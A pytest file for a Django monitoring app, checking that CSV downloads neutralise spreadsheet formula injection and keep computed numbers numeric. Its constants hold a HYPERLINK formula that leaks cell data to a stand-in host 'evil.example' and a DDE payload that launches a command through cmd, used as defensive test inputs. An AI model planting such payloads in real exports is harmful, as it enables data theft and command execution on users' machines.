"""Every CSV download neutralises a cell a spreadsheet would run as a formula (a leading `=`,
`+`, `-`, `@`, tab or carriage return gets a single quote), and keeps the numbers the product
computes as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from dps.csv_export import csv_cell, csv_download
from monitoring.models import Ssda903Issue
from monitoring.services import ssda903
from tests.factories import EnrolmentFactory, LotFactory, ServiceFactory

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Alpha Care", "Alpha Care"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
    ],
)
def test_it_neutralises_text_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize("number", [-1.5, Decimal("-1234.56"), -3, 0, Decimal("41.7")])
def test_numbers_the_product_computes_stay_numbers_even_when_negative(number):
    response, writer = csv_download("figures.csv")
    writer.writerow(["kpi", number])

    assert rows_of(response) == [["kpi", str(number)]]


def test_a_download_is_a_private_uncached_attachment():
    response, _writer = csv_download("spend-by-lot.csv")

    assert response["Content-Disposition"] == 'attachment; filename="spend-by-lot.csv"'
    assert response["Cache-Control"] == "private, no-store"


def test_a_dashboard_chart_csv_neutralises_names_providers_typed(client, world):
    """The market position's capacity: the lot's name and the area a provider gave its
    service are text from people, the counts are numbers."""
    lot = LotFactory(consortium=world.consortium, code="csv-lot", name=LINK)
    EnrolmentFactory(provider=world.provider_a, lot=lot)
    ServiceFactory(
        provider=world.provider_a, local_authority="@SUM(1)", registered_places=4, vacancies=1
    )
    client.force_login(world.commissioner_a)

    rows = rows_of(client.get("/monitoring/market/", {"format": "csv", "chart": "market-capacity"}))

    assert ["'" + LINK, "'@SUM(1)", "1", "4", "1"] in rows


def test_the_ssda903_downloads_neutralise_what_the_files_held(client, world):
    ssda903_return = ssda903.ssda903_return_create(
        actor=None,
        borough=world.borough_a,
        year_ending=2025,
        header=b"x",
        episodes=b"y",
        label="test",
        queue=False,
    )
    Ssda903Issue.objects.create(
        ssda903_return=ssda903_return,
        file="header",
        line=2,
        child="@SUM(1)",
        code="DPS03",
        message=LINK,
        fields="-DOB",
    )
    ssda903_return.report = {"unmatched_urns": [DDE, "SC123456"]}
    ssda903_return.save()
    client.force_login(world.officer_a)

    issues = rows_of(
        client.get(reverse("monitoring:ssda903_return_issues_csv", args=[ssda903_return.pk]))
    )
    urns = rows_of(
        client.get(reverse("monitoring:ssda903_return_unmatched_csv", args=[ssda903_return.pk]))
    )

    assert issues[1] == ["header", "2", "'@SUM(1)", "DPS03", "'" + LINK, "'-DOB"]
    assert urns == [["urn"], ["'" + DDE], ["SC123456"]]
